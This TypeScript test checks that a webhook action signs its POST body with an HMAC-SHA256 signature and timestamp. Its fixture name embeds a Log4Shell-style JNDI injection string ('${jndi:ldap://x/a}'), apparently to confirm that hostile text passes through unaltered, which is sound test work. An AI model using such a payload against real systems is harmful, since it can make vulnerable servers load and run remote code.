import { createHmac } from 'node:crypto';
import { ID, useActionScene } from '../../support/action-scene.ts';

const actions = useActionScene();

describe('an HTTP POST v2 with a signing secret', () => {
  test('is signed so that the receiver can verify it', async () => {
    await actions.addAction('http_post_v2', { signing_secret: 'shared \u00e9 secret' });
    await actions.newInsight(ID(1), { name: 'Nürnberg 漢字 😀 ${jndi:ldap://x/a}' });
    await actions.minutes(1);
    const [{ headers, body } = { headers: {} as Record<string, string>, body: '' }] =
      actions.targets.to('/hook');
    const time = headers['x-cse-timestamp'] ?? '';
    expect(Math.abs(Number(time) * 1000 - (await actions.scene.now()))).toBeLessThan(120_000);
    const mac = createHmac('sha256', 'shared \u00e9 secret').update(`${time}.${body}`).digest('hex');
    expect(headers['x-cse-signature']).toBe(`sha256=${mac}`);
    expect(body).toContain('漢字 😀 ${jndi:ldap://x/a}');
  });
});
